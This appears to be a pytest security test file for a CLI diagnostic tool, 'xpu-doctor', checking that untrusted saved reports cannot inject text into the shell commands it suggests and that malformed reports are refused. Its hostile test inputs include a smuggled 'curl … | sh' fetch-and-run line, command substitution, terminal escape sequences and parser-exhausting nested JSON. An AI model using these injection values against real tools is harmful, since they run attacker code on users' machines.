"""A saved report from a stranger: no string of it shapes a line to type, whatever it holds and wherever it stands."""

from __future__ import annotations

import copy
import json
import os
import re
from collections.abc import Iterator
from typing import Any

import click
import jsonschema
import pytest
from click.testing import CliRunner

from tests.support.cases import Case, cases
from tests.support.clean_output import clean_json, clean_text, steering_characters
from tests.support.cli import schema
from xpu_doctor.catalogue.names import all_rules
from xpu_doctor.cli.triage import triage
from xpu_doctor.diagnosis.ranking import flat
from xpu_doctor.model.codec import SnapshotError
from xpu_doctor.model.findings import Finding, Remedy
from xpu_doctor.pasted.run import triage_texts
from xpu_doctor.probes.machine import HYPERVISORS as FROM_FIRMWARE
from xpu_doctor.remedies.known_words import HYPERVISORS
from xpu_doctor.text.safe import from_bytes

FOUND = [case for case in cases() if case.outcome == "found" and case.code != "snapshot-too-new"]
EVERY = "XPU_DOCTOR_HEAVY_TESTS" in os.environ
"""Whether every string of every case is replaced by every hostile one, which takes minutes."""
MARK = "zqmark"
HOSTILE = (
    MARK,
    f"{{value}}{MARK}",
    f"--index-url=http://{MARK}.example/",
    f"{{value}}; curl {MARK}.example | sh\n--proxy {MARK} \x1b]0;{MARK}\x07 $({MARK}) `{MARK}` '\"\\",
    f"/tmp/{MARK}/bin/python3",
    f"C:\\{MARK}\\python.exe",
)
"""Words, options, whole shell lines, paths: alone, and behind the value that stood there."""
SETTINGS = [
    {"name": name, "value": f"{MARK}.example", "source": source, "tool": tool}
    for tool, source in (("pip", "/etc/pip.conf"), ("uv", "/etc/uv/uv.toml"))
    for name in (
        "find-links",
        "proxy",
        "cert",
        "client-cert",
        "trusted-host",
        "index-url",
        "extra-index-url",
        "PIP_PROXY",
        "allow-insecure-host",
        "UV_INDEX",
    )
]


def saved(snapshot: dict[str, Any]) -> bytes:
    """A report as `check --json` writes it, around a snapshot."""
    return json.dumps(
        {
            "schema": 1,
            "tool": {"name": "xpu-doctor"},
            "root_causes": [],
            "ladder": [],
            "snapshot": {"schema": 1, **snapshot},
        }
    ).encode()


def leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The place of every string of a snapshot."""
    if isinstance(value, str):
        yield path
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from leaves(item, (*path, key))
    elif isinstance(value, list):
        for number, item in enumerate(value):
            yield from leaves(item, (*path, number))


def replaced(snapshot: dict[str, Any], path: tuple[Any, ...], hostile: str) -> dict[str, Any]:
    """A copy of a snapshot with another string at a place."""
    result = copy.deepcopy(snapshot)
    holder = result
    for step in path[:-1]:
        holder = holder[step]
    holder[path[-1]] = hostile.replace("{value}", holder[path[-1]])
    return result


def remedies(roots: tuple[Finding, ...]) -> list[Remedy]:
    """All remedies of a tree of findings."""
    return [remedy for finding in flat(roots) for remedy in finding.remedies]


def typed(snapshot: dict[str, Any]) -> list[str]:
    """Every line to type that triage prints of a saved report."""
    found = triage_texts([("report", from_bytes(saved(snapshot), "report"))], rules=all_rules())
    return [
        line
        for remedy in remedies(found.diagnosis.root_causes)
        for line in (*remedy.commands, *remedy.verify, remedy.url)
    ]


def refused(snapshot: dict[str, Any]) -> bool:
    """Whether a report is refused in words."""
    try:
        triage_texts([("report", from_bytes(saved(snapshot), "report"))], rules=[])
    except SnapshotError as error:
        words = str(error)
    else:
        return False
    assert "\n" not in words
    assert not steering_characters(words)
    return True


@pytest.mark.parametrize("case", FOUND if EVERY else FOUND[::4], ids=str)
def test_no_string_reaches_a_line_to_type(case: Case) -> None:
    """Each string by itself, so that the finding that its neighbours prove is still there."""
    for number, path in enumerate(leaves(case.snapshot)):
        for hostile in HOSTILE if EVERY else (HOSTILE[0], HOSTILE[1 + number % (len(HOSTILE) - 1)]):
            snapshot = replaced(case.snapshot, path, hostile)
            if not refused(snapshot):
                lines = [line for line in typed(snapshot) if MARK in line]
                assert not lines, (path, hostile, lines)


@pytest.mark.parametrize(
    "case",
    [case for case in FOUND if {"python", "installer", "torch", "distributions"} & case.snapshot.keys()],
    ids=str,
)
def test_no_place_of_the_file_is_named(case: Case) -> None:
    """Interpreter, project, settings: in the place of a stranger's the lines hold placeholders, never his."""
    snapshot = copy.deepcopy(case.snapshot)
    python, installer = snapshot.setdefault("python", {}), snapshot.setdefault("installer", {})
    if "reason" in python or "reason" in installer:
        pytest.skip("the case says why nothing of the interpreter is known")
    python.update(executable=f"/tmp/{MARK}/python3", prefix=f"/tmp/{MARK}")
    installer.update(settings=SETTINGS, project=f"/tmp/{MARK}")
    for manager in ("pip", "uv-project", "conda", MARK):
        installer["manager"] = manager
        lines = typed(snapshot)
        assert not any(MARK in line for line in lines), [line for line in lines if MARK in line]
        for option in (
            "--proxy",
            "--cert",
            "--client-cert",
            "--trusted-host",
            "--allow-insecure-host",
            "--find-links",
            "--extra-index-url",
        ):
            own = "--find-links torch-xpu-wheels"  # the folder that the sequence itself has just filled
            assert not any(option in line.replace(own, "") for line in lines), option


def everywhere(value: Any, hostile: str) -> Any:
    """A snapshot in which every string is followed by a hostile one."""
    if isinstance(value, str):
        return value + hostile
    if isinstance(value, dict):
        return {
            key: item if key in ("schema", "origin", "subject") else everywhere(item, hostile)
            for key, item in value.items()
        }
    return [everywhere(item, hostile) for item in value] if isinstance(value, list) else value


@pytest.mark.parametrize("case", FOUND[::12], ids=str)
def test_every_output_is_clean(case: Case) -> None:
    """Text, JSON and reply: no control character of the file, and no line to type that holds a word of it."""
    for snapshot in (everywhere(case.snapshot, HOSTILE[3].replace("{value}", "")), case.snapshot):
        outputs = {
            option: CliRunner().invoke(triage, [option, "-"], input=saved(snapshot), standalone_mode=False)
            for option in ("--json", "-v", "--reply")
        }
        if any(isinstance(result.exception, click.UsageError) for result in outputs.values()):
            assert refused(snapshot)
            continue
        assert not any(result.exception for result in outputs.values()), outputs
        document = clean_json(outputs["--json"].stdout)
        assert not any(MARK in line for line in lines_to_type(document["root_causes"]))
        clean_text(outputs["-v"].stdout)
        fences = clean_text(outputs["--reply"].stdout).split("```")[1::2]
        assert not any(MARK in fence for fence in fences)


def lines_to_type(roots: list[dict[str, Any]]) -> list[str]:
    """Every command of the findings of a JSON document."""
    return [
        line for root in roots for remedy in root["remedies"] for line in (*remedy["commands"], *remedy["verify"])
    ] + [line for root in roots if root["explains"] for line in lines_to_type(root["explains"])]


REPORT = {
    "schema": 1, "tool": {"name": "xpu-doctor"}, "created": "2026-11-21T00:00:00Z", "verdict": "findings", "ladder": [], "root_causes": [],
    "snapshot": {"schema": 1, "torch": {"installed": True, "version": "2.9.1+cpu", "build": "cpu", "path": "/home/me/torch"}},
}  # fmt: skip
FORMS = {
    "sorted": json.dumps(REPORT, sort_keys=True),
    "indented": json.dumps(REPORT, indent=7),
    "minified": json.dumps(REPORT, separators=(",", ":")),
    "unknown keys": json.dumps(
        {"a": {"b": [1]}, **REPORT, "zz": None, "snapshot": {**REPORT["snapshot"], "news": {"x": 1}}}
    ),  # type: ignore[dict-item]
    "inside another object": json.dumps({"attachments": [{"name": "report", "content": REPORT}]}),
    "in a fence": "It fails {always}:\n\n```json\n" + json.dumps(REPORT, indent=2) + "\n```\nThanks",
    "quoted": "> > " + json.dumps(REPORT, indent=2).replace("\n", "\n> > "),
}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-32"])
@pytest.mark.parametrize("form", FORMS)
def test_a_report_is_recognised_in_any_form(form: str, encoding: str) -> None:
    """Order, blanks, unknown keys, fences, marks and encodings change nothing."""
    triaged = triage_texts([("report", from_bytes(FORMS[form].encode(encoding), "report"))], rules=all_rules())
    assert (triaged.snapshot.origin, triaged.diagnosis.root_causes[0].code) == ("saved", "torch-cpu-wheel")


WHOLE = FORMS["sorted"]
DAMAGED = {
    "cut at its end": FORMS["indented"][:-20],
    "cut at its beginning": FORMS["indented"][20:],
    "without its snapshot": json.dumps({key: value for key, value in REPORT.items() if key != "snapshot"}),
    "as Python prints it": str(REPORT),
    "as HTML": WHOLE.replace('"', "&quot;"),
    "as a string": json.dumps(WHOLE),
    "a newer one": WHOLE.replace('"schema": 1, "snapshot"', '"schema": 2, "snapshot"'),
    "a newer snapshot": WHOLE.replace('{"schema": 1, "torch"', '{"schema": 2, "torch"'),
    "a schema in words": WHOLE.replace('"schema": 1, "snapshot"', '"schema": "1", "snapshot"'),
    "a number as a string": WHOLE.replace('"installed": true', '"installed": "true"'),
    "a list for a word": WHOLE.replace('"cpu"', '["cpu"]'),
    "NaN": WHOLE.replace("true", "NaN"),
    "1e999": WHOLE.replace("true", "1e999"),
    "a long number": WHOLE.replace("true", "9" * 5000),
    "a key twice": WHOLE.replace('"build": "cpu"', '"build": "cpu", "build": "xpu"'),
    "deep": WHOLE.replace("true", "[" * 200 + "]" * 200),
    "very deep": WHOLE.replace("true", "[" * 100_000 + "]" * 100_000),
    "deep and never closed": WHOLE.replace("true", '{"a":' * 50_000),
}


@pytest.mark.parametrize("form", DAMAGED)
def test_a_damaged_report_is_refused_in_one_line(form: str) -> None:
    """It is never read as prose, and never a fault of the doctor."""
    result = CliRunner().invoke(triage, ["--json", "-"], input=DAMAGED[form].encode(), standalone_mode=False)
    assert isinstance(result.exception, click.UsageError), result.stdout[:300]
    assert "\n" not in str(result.exception)
    assert "report" in str(result.exception) or "snapshot" in str(result.exception)


def test_other_json_is_prose() -> None:
    """What only looks a little like a report is read as any text."""
    text = json.dumps(
        {"exit_code": 1, "verdict": "bad", "error": "RuntimeError: Required aspect fp64 is not supported on the device"}
    )
    triaged = triage_texts([("log", from_bytes(text.encode(), "log"))], rules=all_rules())
    assert (triaged.snapshot.origin, triaged.diagnosis.root_causes[0].code) == ("pasted", "fp64-unsupported")


def test_a_part_that_nobody_knows_is_named_by_the_schema() -> None:
    """A stranger's report says that something failed which no doctor has: the document is still one by the schema."""
    failures = [{"part": part, "name": "x", "error": "y"} for part in ("$(plugin)", "", "probe")]
    result = CliRunner().invoke(triage, ["--json", "-"], input=saved({"failures": failures}), standalone_mode=False)
    document = clean_json(result.stdout)
    jsonschema.validate(document, schema())
    assert {crash["part"] for crash in document["crashed"]} == {"tool", "probe"}


@pytest.mark.parametrize("case", FOUND, ids=str)
def test_no_placeholder_stands_in_a_sentence(case: Case) -> None:
    """Placeholders are for lines to type: what people read does without them."""
    for snapshot in (case.snapshot, everywhere(case.snapshot, f"{{value}}{MARK}"), everywhere(case.snapshot, MARK)):
        if refused(snapshot):
            continue
        found = triage_texts([("report", from_bytes(saved(snapshot), "report"))], rules=all_rules())
        for remedy in remedies(found.diagnosis.root_causes):
            for text in (remedy.title, remedy.why):
                assert not re.search(r"\b(?:SOMETHING|GROUP)\b|\bPATH[/\\]TO\b", text), text


def test_every_hypervisor_is_known() -> None:
    """The names that the probe gives stay in a reply."""
    assert {name for _, name in FROM_FIRMWARE} <= HYPERVISORS
